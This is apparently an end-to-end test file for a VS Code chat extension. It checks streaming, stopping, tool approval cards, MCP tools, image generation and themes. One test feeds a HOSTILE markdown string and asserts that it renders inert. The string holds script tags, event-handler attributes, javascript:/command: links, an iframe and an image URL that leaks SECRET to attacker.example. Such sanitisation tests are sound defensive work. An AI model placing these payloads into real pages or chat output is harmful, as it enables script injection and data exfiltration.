// The chat panel driven through the real web workbench (VS Code 1.139 in headless Chromium), after
// the smoke checks of the workbench and the packaged extension,
// through its accessible names only: textbox "Message", buttons "Send" / "Stop" (New chat is in the view title),
// the transcript (role=log) with articles "You" / "Assistant", code-block buttons "Copy" /
// "Insert". The gateway simulator runs in this process; the extension host reaches it on
// 127.0.0.1. Screenshots of the panel in light and dark themes go to test-results/screenshots/
// (media/screenshots/, used by the README, with MODELGATE_UPDATE_SCREENSHOTS=1).
import * as assert from 'node:assert/strict';
import { mkdirSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame } from 'playwright-core';
import { writeTestMcpConfig } from '../harness/mcp';
import { repoRoot } from '../harness/paths';
import { PRICE_CARD } from '../gateway/index';
import { gatewaySettings, useGatewayWorkbench, userSettingsOf, type Workbench } from './workbench';
import { newChatFrame, restartExtensionHost } from './hostRestart';
import { fillField, renderedText, typeKeys } from './typing';

const KEY = 'sk-e2e-chat-7c41d2';
const HOSTILE = [
  '[[echo]]',
  '# Hostile',
  '<script>window.__pwned = 1; alert("script")</script>',
  '<img src=x onerror="alert(\'img\')">',
  '![leak](https://attacker.example/leak.png?q=SECRET)',
  '[click me](javascript:alert("link"))',
  '[run](command:workbench.action.quit)',
  '<iframe src="https://attacker.example/"></iframe>',
  '<a href="https://attacker.example" onclick="alert(\'a\')">html link</a>',
  '```html',
  '<script>alert("in code")</script>',
  '```',
].join('\n');

describe('e2e chat: the panel in the VS Code web workbench', function () {
  this.timeout(240_000);
  const dialogs: string[] = [];

  const fixture = useGatewayWorkbench(KEY, (gw) => ({
    settings: {
      ...gatewaySettings(gw),
      // the panel's generate_image tool (the last test): a priced image model and its folder
      'modelgate.models': {
        ...(gatewaySettings(gw)['modelgate.models'] as Record<string, unknown>),
        'image-small': { kind: 'image', prices: { standard: PRICE_CARD.image['image-small']!.standard } },
      },
      'modelgate.image.model': 'image-small',
      'modelgate.image.folder': 'images',
      'workbench.colorTheme': 'Default Light Modern',
    },
    viewport: { width: 1280, height: 860 },
    // the user's MCP servers: the test server (test/harness/mcp-server), for the panel's tools from VS Code
    prepareProfile: (profile) => writeTestMcpConfig(profile.userDataDir),
  }));

  let wb: Workbench;
  let chat: Frame;
  const message = () => chat.getByRole('textbox', { name: 'Message' });
  const log = () => chat.getByRole('log');
  const assistants = () => log().getByRole('article', { name: 'Assistant' });
  const users = () => log().getByRole('article', { name: 'You' });
  const button = (name: string) => chat.getByRole('button', { name, exact: true });

  /** The chat webview's frame (again when the view was re-created). */
  async function chatFrame(): Promise<Frame> {
    chat = await wb.openChat();
    return chat;
  }

  async function send(text: string): Promise<void> {
    await fillField(message(), text);
    await button('Send').click();
  }

  async function waitIdle(): Promise<void> {
    await button('Stop').waitFor({ state: 'hidden', timeout: 60_000 });
    await button('Send').waitFor({ state: 'visible', timeout: 10_000 });
  }

  // README screenshots are refreshed on request (MODELGATE_UPDATE_SCREENSHOTS=1 npm test);
  // a routine run writes to test-results/ so it never dirties tracked files.
  async function screenshotPanel(file: string): Promise<void> {
    const dir = process.env.MODELGATE_UPDATE_SCREENSHOTS === '1' ? join(repoRoot(), 'media', 'screenshots') : join(repoRoot(), 'test-results', 'screenshots');
    const path = join(dir, file);
    mkdirSync(dir, { recursive: true });
    await wb.page.locator('.part.sidebar').screenshot({ path });
  }

  before(() => {
    wb = fixture.get();
    wb.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
  });

  // The smoke checks first (they were a file of their own, which started a workbench for
  // three checks that any workbench with the packaged extension answers): the workbench loads
  // with the folder, the palette lists Modelgate's commands, the status bar entry shows the model
  // once the extension is active (`onStartupFinished`: it activates once the window is up; the
  // Show Log below dates from when it activated on its commands and views only).
  it('smoke: loads the workbench with the workspace folder', async () => {
    await wb.page.locator('.explorer-folders-view .monaco-list-row', { hasText: 'README.md' }).waitFor({ state: 'visible' });
  });

  it("smoke: lists 'Modelgate: Set API Key' in the command palette", async () => {
    const labels = await wb.findCommands('Modelgate: Set API Key', { expect: 'Modelgate: Set API Key' });
    assert.ok(labels.includes('Modelgate: Set API Key'), `the palette listed: ${labels.join(' | ')}`);
  });

  it('smoke: shows the chat model in the status bar once the extension has activated after start-up', async () => {
    await wb.runCommand('Modelgate: Show Log');
    await wb.statusBarItem('flagship-text').first().waitFor({ state: 'visible', timeout: 30_000 });
  });

  it('opens the panel and takes an API key', async () => {
    await chatFrame();
    await message().waitFor({ state: 'visible' });
    await wb.setKey(KEY);
  });

  it('sends a message and streams the answer into the transcript', async () => {
    // The simulator holds the answer after its first piece until the panel shows it: the check of
    // text shown while the answer is still being written cannot come too late, however loaded the
    // machine (an answer dripped over 40 s did the same at the cost of 40 s of streaming). The
    // answer still comes in pieces of a few bytes each (drip with no delay), split across events.
    const release = fixture.gateway().holdStreams();
    let partial: number;
    const answer = assistants().last();
    try {
      await send('How do I count words in a string? [[fault:drip:0]]');
      await users().first().waitFor({ state: 'visible' });
      assert.match(await renderedText(users().first()), /How do I count words/);
      await button('Stop').waitFor({ state: 'visible', timeout: 30_000 });
      // The answer's own text shows up while it is still being written (held: Stop is still
      // there). Its body, not the whole article: the header (author, model) is there from the start.
      await chat.waitForFunction(
        () => {
          const a = [...document.querySelectorAll('article[aria-label="Assistant"]')].pop();
          return (a?.querySelector('.message-body')?.textContent ?? '').trim().length > 0;
        },
        undefined,
        { timeout: 30_000, polling: 100 },
      );
      partial = (await renderedText(answer.locator('.message-body'))).length;
      assert.equal(await button('Stop').isVisible(), true, 'still streaming when the first text showed');
    } finally {
      release();
    }
    await waitIdle();
    const full = await renderedText(answer);
    const body = (await renderedText(answer.locator('.message-body'))).length;
    assert.ok(body > partial, `the answer grew after the first text (${partial} -> ${body})`);
    // Rendered markdown: a heading, a table, and a highlighted code block with its buttons.
    assert.ok((await answer.locator('h2').count()) >= 1);
    assert.ok((await answer.locator('table').count()) === 1);
    await answer.getByRole('button', { name: 'Copy' }).first().waitFor({ state: 'visible' });
    await answer.getByRole('button', { name: 'Insert' }).first().waitFor({ state: 'visible' });
    assert.match(full, /\$\d/, 'the cost of the answer is shown');
  });

  it('inserts a code block into a new editor with Insert', async () => {
    const answer = assistants().last();
    const code = await renderedText(answer.locator('pre code').first());
    // the longest identifier of the block: no spaces, which the editor renders its own way
    const word = (code.match(/[A-Za-z_][A-Za-z0-9_]{3,}/g) ?? []).sort((a, b) => b.length - a.length)[0]!;
    assert.ok(word, code);
    await answer.getByRole('button', { name: 'Insert' }).first().click();
    await wb.page.locator('.monaco-editor .view-lines', { hasText: word }).first().waitFor({ state: 'visible', timeout: 30_000 });
  });

  it('stops an answer with Stop and keeps what was written', async () => {
    await chatFrame();
    await send('Write a lot [[words:20000]] [[fault:drip:1]]');
    await button('Stop').waitFor({ state: 'visible', timeout: 30_000 });
    await chat.waitForFunction(
      () => {
        const a = [...document.querySelectorAll('article[aria-label="Assistant"]')].pop();
        return !!a && (a.textContent ?? '').trim().length > 20;
      },
      undefined,
      { timeout: 30_000, polling: 100 },
    );
    await button('Stop').click();
    await waitIdle();
    const answer = assistants().last();
    await answer.getByText('Stopped').waitFor({ state: 'visible', timeout: 10_000 });
    const stopped = await renderedText(answer);
    assert.ok(stopped.length > 20);
    assert.ok(stopped.split(/\s+/).length < 20000);
  });

  it('finds the conversation again in a new extension host', async () => {
    const before = await users().allInnerTexts();
    assert.equal(before.length, 2);
    // The new host knows only what the store wrote to disk; the panel is its new frame.
    await restartExtensionHost(wb, before.length);
    chat = await newChatFrame(wb, chat);
    await users().nth(1).waitFor({ state: 'visible', timeout: 60_000 });
    const after = await users().allInnerTexts();
    assert.deepEqual(
      after.map((t) => t.trim()),
      before.map((t) => t.trim()),
    );
    assert.equal(await assistants().count(), 2);
    await assistants()
      .last()
      .getByText(/Stopped|Interrupted/)
      .waitFor({ state: 'visible' });
  });

  it('renders hostile markdown inert: no script, no image, no frame, no dialog', async () => {
    await wb.page
      .locator('.part.sidebar .title-actions')
      .getByRole('button', { name: /^New Chat/ })
      .click(); // the view title's New chat (the panel has no second one)
    await users()
      .first()
      .waitFor({ state: 'detached', timeout: 10_000 })
      .catch(() => undefined);
    assert.equal(await users().count(), 0);
    await send(HOSTILE);
    await waitIdle();
    const answer = assistants().last();
    await answer.getByText('Hostile').first().waitFor({ state: 'visible' });
    const inTranscript = (selector: string) => log().locator(selector).count();
    assert.equal(await inTranscript('script'), 0, 'a <script> reached the DOM');
    assert.equal(await inTranscript('img'), 0, 'an <img> reached the DOM');
    assert.equal(await inTranscript('iframe'), 0, 'an <iframe> reached the DOM');
    assert.equal(await inTranscript('[onerror], [onclick]'), 0, 'an event handler attribute reached the DOM');
    assert.equal(await inTranscript('a[href^="javascript:"], a[href^="command:"]'), 0, 'a javascript:/command: link is clickable');
    assert.equal(await chat.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
    // The script in the code block is shown as text.
    assert.match(await renderedText(answer.locator('pre code').first()), /<script>alert\("in code"\)<\/script>/);
    // Clicking the javascript: link does nothing either.
    const link = answer.getByText('click me');
    if (await link.count()) await link.first().click();
    await wb.page.waitForTimeout(500);
    assert.deepEqual(dialogs, [], `dialogs opened: ${dialogs.join(' | ')}`);
  });

  it('takes screenshots of the panel in light and dark themes', async () => {
    // A wider side bar than the default 300 px, as people who chat tend to make it.
    const sidebar = wb.page.locator('.part.sidebar');
    const box = (await sidebar.boundingBox())!;
    await wb.page.mouse.move(box.x + box.width + 1, box.y + box.height / 2);
    await wb.page.mouse.down();
    await wb.page.mouse.move(box.x + 480, box.y + box.height / 2, { steps: 8 });
    await wb.page.mouse.up();
    await wb.page
      .locator('.part.sidebar .title-actions')
      .getByRole('button', { name: /^New Chat/ })
      .click(); // the view title's New chat (the panel has no second one)
    // A Send before the new chat's snapshot arrives goes to the previous chat: wait for the snapshot.
    await users().first().waitFor({ state: 'detached', timeout: 30_000 });
    await send('How do I debounce a function in TypeScript?');
    await waitIdle();
    await fillField(message(), 'Can it also cancel a pending call?');
    await screenshotPanel('chat-light.png');

    // Switch the theme the way a person does (it writes workbench.colorTheme to settings.json).
    await wb.runCommand('Preferences: Color Theme');
    await wb.answerInput('Dark Modern'); // the picker's label of "Default Dark Modern"
    await wb.page.locator('.monaco-workbench.vs-dark').waitFor({ state: 'attached', timeout: 60_000 });
    // The choice lands in settings.json (VS Code 1.139 names it "Dark Modern"; older versions
    // "Default Dark Modern"); the write can trail the switch a little.
    // settings.json can be read while VS Code rewrites it (empty or half written): not a theme yet.
    const theme = () => userSettingsOf(wb)?.['workbench.colorTheme'];
    await wb.page.waitForFunction(() => true); // yield once to the page
    for (let i = 0; i < 100 && !/^(Default )?Dark Modern$/.test(String(theme())); i++) await wb.page.waitForTimeout(200);
    assert.match(String(theme()), /^(Default )?Dark Modern$/);
    // The webview picks up the theme's CSS variables once the workbench has switched.
    await chat.waitForFunction(() => document.body.classList.contains('vscode-dark'), undefined, { timeout: 30_000, polling: 100 });
    await screenshotPanel('chat-dark.png');
  });

  it('shows the run_command approval card in dark and light themes (Skip is the focused default)', async () => {
    // The previous test left the workbench in Dark Modern.
    const card = log().getByRole('group', { name: 'Run this command?' });
    const ask = async () => {
      await send('Run the tests [[call:run_command {"command":"npm test -- --grep approval"}]]');
      await card.waitFor({ state: 'visible', timeout: 60_000 });
      assert.equal(await card.locator('code').textContent(), 'npm test -- --grep approval');
      assert.equal(await chat.evaluate(() => document.activeElement?.textContent), 'Skip', 'the safe choice has the focus');
    };
    const skip = async () => {
      await card.getByRole('button', { name: 'Skip', exact: true }).click();
      await card.waitFor({ state: 'detached', timeout: 30_000 });
      await waitIdle();
    };
    await ask();
    await screenshotPanel('approval-dark.png');
    await skip();

    // (Escape in the panel stops a waiting answer, so the theme is switched between the two questions.)
    await wb.runCommand('Preferences: Color Theme');
    await wb.answerInput('Light Modern');
    await wb.page.locator('.monaco-workbench.vs').waitFor({ state: 'attached', timeout: 60_000 });
    await chat.waitForFunction(() => document.body.classList.contains('vscode-light'), undefined, { timeout: 30_000, polling: 100 });
    await ask();
    await screenshotPanel('approval-light.png');
    await skip();
  });

  it('offers an MCP tool from the picker and asks before calling it (Allow once; light and dark screenshots)', async () => {
    // The previous test left the workbench in Light Modern. Start the user's MCP server as a person
    // does: MCP: List Servers > the server > Start Server (VS Code does not start it on its own).
    await wb.runCommand('MCP: List Servers');
    await wb.answerInput('mgtest');
    await wb.answerInput('Start Server');
    const picker = chat.locator('details.tool-picker');
    await picker.locator('summary').waitFor({ state: 'visible', timeout: 60_000 });
    const echo = picker.getByRole('checkbox', { name: /mcp_modelgate-tes_echo_note/ });
    // opening the picker asks the host for VS Code's current list (the server may still be starting)
    for (let i = 0; i < 60 && !(await echo.isVisible()); i++) {
      if (await picker.evaluate((d) => (d as HTMLDetailsElement).open)) await picker.locator('summary').click();
      await picker.locator('summary').click();
      await echo.waitFor({ state: 'visible', timeout: 1_000 }).catch(() => undefined);
    }
    await echo.check();
    await chat.waitForFunction(() => /1 of \d+ on/.test(document.querySelector('details.tool-picker summary')?.textContent ?? ''), undefined, {
      timeout: 30_000,
      polling: 100,
    });
    const card = log().getByRole('group', { name: 'Run the tool mcp_modelgate-tes_echo_note?' });
    const ask = async (text: string) => {
      await send(`Echo it [[call:mcp_modelgate-tes_echo_note {"text":"${text}"}]]`);
      await card.waitFor({ state: 'visible', timeout: 60_000 });
      assert.match((await card.textContent()) ?? '', /From MCP server “mgtest”/);
      assert.equal(await chat.evaluate(() => document.activeElement?.textContent), 'Skip', 'the safe choice has the focus');
    };
    await ask('from the light panel');
    await screenshotPanel('mcp-tool-light.png');
    await card.getByRole('button', { name: 'Allow once', exact: true }).click();
    await card.waitFor({ state: 'detached', timeout: 30_000 });
    await waitIdle();
    assert.match((await log().textContent()) ?? '', /MCP echo: from the light panel/);

    await wb.runCommand('Preferences: Color Theme');
    await wb.answerInput('Dark Modern');
    await wb.page.locator('.monaco-workbench.vs-dark').waitFor({ state: 'attached', timeout: 60_000 });
    await chat.waitForFunction(() => document.body.classList.contains('vscode-dark'), undefined, { timeout: 30_000, polling: 100 });
    await ask('from the dark panel');
    await screenshotPanel('mcp-tool-dark.png');
    await card.getByRole('button', { name: 'Skip', exact: true }).click();
    await card.waitFor({ state: 'detached', timeout: 30_000 });
    await waitIdle();
  });

  it('generate_image: asks on the card, then shows the saved PNG inline from the workspace file (light and dark), and a click opens it', async () => {
    // The previous test (the MCP tool) left the workbench in Dark Modern: this one starts there and
    // ends in Light Modern, one theme switch (each repaints the whole workbench and the panel).
    await wb.page
      .locator('.part.sidebar .title-actions')
      .getByRole('button', { name: /^New Chat/ })
      .click();
    // A Send before the new chat's snapshot arrives goes to the previous chat: wait for the snapshot.
    await users().first().waitFor({ state: 'detached', timeout: 30_000 });
    const card = log().getByRole('group', { name: 'Generate an image with Modelgate?' });
    await send('Draw a lighthouse [[call:generate_image {"prompt":"a lighthouse at dusk","size":"256x256"}]]');
    await card.waitFor({ state: 'visible', timeout: 60_000 });
    const detail = await card.innerText();
    for (const part of ['a lighthouse at dusk', '256x256', 'image-small', 'Folder: images', 'Price: $'])
      assert.ok(detail.includes(part), `the card shows ${part}: ${detail}`);
    assert.equal(await chat.evaluate(() => document.activeElement?.textContent), 'Skip', 'the safe choice has the focus');
    await screenshotPanel('image-approval-dark.png');
    await card.getByRole('button', { name: 'Generate', exact: true }).click();

    // The image's folder becomes a resource root of the view, which reloads the page once: find the
    // frame whose <img> has loaded (decoded pixels: naturalWidth > 0).
    const loaded = async (): Promise<Frame | undefined> => {
      for (const f of await wb.webviewFrames()) {
        const ok = await f
          .evaluate(() => {
            const img = document.querySelector<HTMLImageElement>('.image-gallery img');
            return !!img && img.complete && img.naturalWidth > 0;
          })
          .catch(() => false);
        if (ok) return f;
      }
      return undefined;
    };
    let frame: Frame | undefined;
    for (let i = 0; i < 300 && !(frame = await loaded()); i++) await wb.page.waitForTimeout(200);
    assert.ok(frame, 'the generated image is shown and loaded in the panel');
    chat = frame;
    await waitIdle();
    const saved = readdirSync(join(wb.workspace, 'images')).filter((f) => f.endsWith('.png'));
    assert.equal(saved.length, 1, `one PNG in the workspace: ${saved.join(', ')}`);
    const img = log().locator('.image-gallery img');
    const src = (await img.getAttribute('src'))!;
    assert.match(src, /^https:\/\/[^/]*\.vscode-resource\.vscode-cdn\.net\//, 'loaded from the webview resource origin');
    assert.ok(decodeURIComponent(src).endsWith(`/images/${saved[0]}`), src);
    assert.equal(await img.getAttribute('alt'), `images/${saved[0]}`);
    assert.match(await renderedText(assistants().last()), /\$\d/, 'the usage line has the cost');
    await screenshotPanel('image-dark.png');

    await wb.runCommand('Preferences: Color Theme');
    await wb.answerInput('Light Modern');
    await wb.page.locator('.monaco-workbench.vs').waitFor({ state: 'attached', timeout: 60_000 });
    await chat.waitForFunction(() => document.body.classList.contains('vscode-light'), undefined, { timeout: 30_000, polling: 100 });
    assert.ok(await img.evaluate((el: HTMLImageElement) => el.naturalWidth > 0), 'still loaded in the light theme');
    await screenshotPanel('image-light.png');

    // a click opens the file in VS Code's image preview
    await log()
      .getByRole('button', { name: `Open images/${saved[0]}`, exact: true })
      .click();
    await wb.page
      .locator('.tabs-container .tab', { hasText: saved[0]!.slice(0, 20) })
      .first()
      .waitFor({ state: 'visible', timeout: 30_000 });
  });

  // VS Code's own Chat view on Modelgate alone (no GitHub account), after
  // "Modelgate: Use in VS Code Chat" (docs/vscode-chat.md). Last here: it opens VS Code's Chat in
  // the secondary side bar and the user settings.json in the editor area.
  it("VS Code's own Chat view answers with a Modelgate model after Modelgate: Use in VS Code Chat (light and dark)", async () => {
    const shots = join(repoRoot(), 'test-results', 'screenshots');
    mkdirSync(shots, { recursive: true });
    // The previous test (the image) left the workbench in Light Modern.
    await wb.page.locator('.monaco-workbench.vs').waitFor({ state: 'attached', timeout: 60_000 });
    // Before the command (this was web.e2e's own workbench, folded in here): VS Code's Chat view and
    // its Models button exist, but the picker offers only "Sign in to use Copilot"; Modelgate's
    // models are not listed.
    await wb.runCommand('Chat: Open Chat');
    await wb.page.locator('.part.auxiliarybar').getByText('Models', { exact: true }).first().click();
    const rows = wb.page.locator('.action-widget .monaco-list-row');
    await rows.first().waitFor({ state: 'visible', timeout: 20_000 });
    const offered = (await rows.allInnerTexts()).map((t) => t.replace(/\s+/g, ' ').trim());
    await wb.page.screenshot({ path: join(shots, 'vscode-own-chat-models.png') });
    assert.ok(
      offered.some((t) => /Sign in to use Copilot/.test(t)),
      offered.join(' | '),
    );
    assert.ok(!offered.some((t) => /flagship-text|long-context-tools|Modelgate/i.test(t)), offered.join(' | '));
    await wb.page.keyboard.press('Escape');

    const requestsBefore = fixture.gateway().requests.length;
    await wb.runCommand('Modelgate: Use in VS Code Chat');
    const dialog = wb.page.locator('.monaco-dialog-box');
    await dialog.waitFor({ state: 'visible', timeout: 30_000 });
    const text = await dialog.innerText();
    assert.match(text, /"chat\.allowAnonymousAccess": true/);
    assert.match(text, /"chat\.byokUtilityModelDefault": "mainAgent"/);
    assert.match(text, /user settings only/);
    // "Don't Change" is the button Enter takes (the safe choice where the user's settings file is
    // at stake); VS Code adds its own Cancel beside it, which Escape takes
    const buttons = (await dialog.locator('.dialog-buttons .monaco-button').allInnerTexts()).map((t) => t.trim()).sort();
    assert.deepEqual(buttons, ['Cancel', 'Change Settings', "Don't Change"]);
    const focused = await wb.page.evaluate(() => document.activeElement?.textContent?.trim());
    console.log(`[e2e] Use in VS Code Chat: focused button ${focused}`);
    assert.equal(focused, "Don't Change", 'Enter takes the button that changes nothing');
    await wb.page.screenshot({ path: join(shots, 'vscode-chat-setup-light.png') });
    await dialog.getByRole('button', { name: 'Change Settings', exact: true }).click();
    await dialog.waitFor({ state: 'hidden', timeout: 10_000 });
    // the settings are in the user's settings.json (saved), not in the workspace
    const userSettings = () => userSettingsOf(wb) ?? {}; // {} while VS Code rewrites it
    for (let i = 0; i < 100 && userSettings()['chat.allowAnonymousAccess'] !== true; i++) await wb.page.waitForTimeout(200);
    assert.equal(userSettings()['chat.allowAnonymousAccess'], true);
    assert.equal(userSettings()['chat.byokUtilityModelDefault'], 'mainAgent');

    // the command opens VS Code's Chat view itself (no button in a notification that may hide first)
    const vsChat = wb.page.locator('.part.auxiliarybar');
    const input = vsChat.locator('.interactive-input-part .monaco-editor').first();
    await input.waitFor({ state: 'visible', timeout: 60_000 });
    // the model picker shows the Modelgate model of modelgate.chat.model
    await vsChat.locator('.interactive-input-part', { hasText: 'Flagship (text)' }).first().waitFor({ state: 'visible', timeout: 30_000 });
    // Typed once the editor has the focus, and checked: it shows the whole question before Enter.
    await typeKeys(wb.page, 'Say hello [[words:6]]', {
      focused: () => input.evaluate((el) => el.classList.contains('focused') && el.ownerDocument.hasFocus()),
      focus: () => input.click({ force: true }),
      read: async () => (await input.locator('.view-lines').innerText()).replace(/\u00a0/g, ' ').trim(),
    });
    await wb.page.keyboard.press('Enter');
    // VS Code's chat sent it to the gateway with the Modelgate model, and shows the answer
    const asked = () =>
      fixture
        .gateway()
        .requests.slice(requestsBefore)
        .find((r) => r.path.endsWith('/chat/completions') && JSON.stringify(r.body).includes('Say hello [[words:6]]'));
    for (let i = 0; i < 300 && !asked(); i++) await wb.page.waitForTimeout(200);
    assert.ok(asked(), "VS Code's Chat view sent the message to the gateway");
    assert.equal((asked()!.body as { model: string }).model, 'flagship-text');
    // the simulator answers [[words:6]] with six words, streamed into the view's response
    const sixWords = async () =>
      (await vsChat.locator('.interactive-response .rendered-markdown').allInnerTexts()).some((t) => t.trim().split(/\s+/).length === 6);
    for (let i = 0; i < 300 && !(await sixWords()); i++) await wb.page.waitForTimeout(200);
    assert.ok(await sixWords(), `the answer in VS Code's Chat view: ${await vsChat.innerText()}`);
    assert.doesNotMatch(await vsChat.innerText(), /Sign in to use GitHub Copilot/);
    assert.equal(await wb.page.locator('.monaco-dialog-box').count(), 0, 'no sign-in dialog');
    await wb.page.screenshot({ path: join(shots, 'vscode-chat-light.png') });

    await wb.page.keyboard.press('Escape');
    await wb.runCommand('Preferences: Toggle between Light/Dark Themes');
    await wb.page.locator('.monaco-workbench.vs-dark').waitFor({ state: 'attached', timeout: 60_000 });
    for (let i = 0; i < 100 && !/Dark/.test(String(userSettings()['workbench.colorTheme'])); i++) await wb.page.waitForTimeout(200);
    assert.match(String(userSettings()['workbench.colorTheme']), /Dark/);
    await wb.page.screenshot({ path: join(shots, 'vscode-chat-dark.png') });
  });
});
